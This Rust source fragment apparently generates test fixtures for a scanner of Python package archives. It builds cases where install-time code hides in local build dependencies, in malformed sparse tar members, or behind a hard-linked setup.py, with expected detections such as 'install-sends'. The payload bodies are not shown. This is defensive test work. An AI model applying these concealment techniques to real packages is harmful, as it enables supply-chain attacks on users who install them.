        cases.clear(format!("honest-quiet-case-{name}"), SDIST, files(b""));
    }
    cases.all
}

/// What a project needs and brings along is built before it.
pub(crate) fn brought_along() -> Vec<Case> {
    let mut cases = Cases::new(Row::Wheels);
    let project = |needs: &str| {
        let requires = format!("requires = [\"setuptools\", \"{needs}\"]");
        text(&["[build-system]", &requires, "build-backend = \"setuptools.build_meta\""])
    };
    for (name, needs) in [
        ("setup", "helper @ file:./tools"),
        ("plain", "helper @ file:tools"),
        ("absolute", "helper @ file:///tools"),
        ("hatch", "helper @ {root:uri}/tools"),
    ] {
        pair(&mut cases, &format!("needs-{name}"), true, &|code| {
            let setup = [code, b"from setuptools import setup\nsetup(name='helper')\n"].concat();
            vec![("pyproject.toml", project(needs)), ("tools/setup.py", setup)]
        });
    }
    pair(&mut cases, "needs-imports", true, &|code| {
        let setup = b"import of_helper\nfrom setuptools import setup\nsetup(name='helper')\n".to_vec();
        vec![
            ("pyproject.toml", project("helper @ file:./tools")),
            ("tools/setup.py", setup),
            ("tools/of_helper.py", code.to_vec()),
        ]
    });
    pair(&mut cases, "needs-backend", true, &|code| {
        vec![
            ("pyproject.toml", project("helper @ file:./tools")),
            ("tools/pyproject.toml", backend("inner")),
            ("tools/inner/backend.py", code.to_vec()),
        ]
    });
    pair(&mut cases, "needs-another", true, &|code| {
        vec![
            ("pyproject.toml", project("helper @ file:./tools")),
            ("tools/pyproject.toml", project("other @ file:../misc/other")),
            ("misc/other/setup.py", code.to_vec()),
        ]
    });
    cases.all
}

/// Archives as writers make them of files with holes, and of two names of one file.
pub(crate) fn holes() -> Vec<Case> {
    let mut cases = Cases::new(Row::Links);
    let (one, two) = (vec![b'a'; 1024], vec![b'b'; 512]);
    let stored = [&one[..], &two].concat();
    let old = |name: &str, first: usize| {
        let mut old = TarHead::new(name, b'S', stored.len() as u64).gnu();
        old.put(386, format!("{:011o}\0{:011o}\0", first, one.len()).as_bytes());
        old.put(410, format!("{:011o}\0{:011o}\0", 65_536, two.len()).as_bytes());
        old.put(434, format!("{:011o}\0{:011o}\0", 100_000, 0).as_bytes());
        old.put(483, format!("{:011o}\0", 100_000).as_bytes());
        sdist_and(&[old.bytes(), padded(&stored)])
    };
    let new = |major: &str, map: &[u8]| {
        let records = [
            ("GNU.sparse.major", major),
            ("GNU.sparse.minor", "0"),
            ("GNU.sparse.name", "demo-1.0/demo/data.bin"),
            ("GNU.sparse.realsize", "100000"),
        ];
        let data = [&padded(map)[..], &stored].concat();
        sdist_and(&[pax(b'x', &records), file("demo-1.0/demo/GNUSparseFile.77/data.bin", &data)])
    };
    cases.clear("honest-sparse-gnu", SDIST, old("demo-1.0/demo/data.bin", 0));
    cases.clear("honest-sparse-pax", SDIST, new("1", b"3\n0\n1024\n65536\n512\n100000\n0\n"));
    // Pieces that lie in one another, or that are not all there, and holes in what runs.
    cases.told("sparse-overlap", SDIST, new("1", b"3\n0\n1024\n512\n512\n100000\n0\n"), "archive-special-member");
    cases.told("sparse-short", SDIST, new("1", b"2\n0\n1024\n100000\n0\n"), "archive-special-member");
    cases.told("sparse-source", SDIST, old("demo-1.0/demo/data.py", 0), "archive-special-member");
    cases.told("sparse-backwards", SDIST, old("demo-1.0/demo/data.bin", 90_000), "archive-special-member");
    let linked = |setup: &[u8], evil: &[u8]| {
        let setup = [evil, setup].concat();
        tar_gz(&[
            file("demo-1.0/PKG-INFO", METADATA),
            file("demo-1.0/build.txt", &setup),
            hardlink("demo-1.0/setup.py", "demo-1.0/build.txt"),
            file("demo-1.0/demo/__init__.py", CLEAN),
        ])
    };
    cases.clear("honest-hard-link-to-text", SDIST, linked(SETUP, b""));
    cases.seen("quiet-hard-link-to-text", SDIST, linked(SETUP, &quiet()), "install-sends");
    cases.all
}
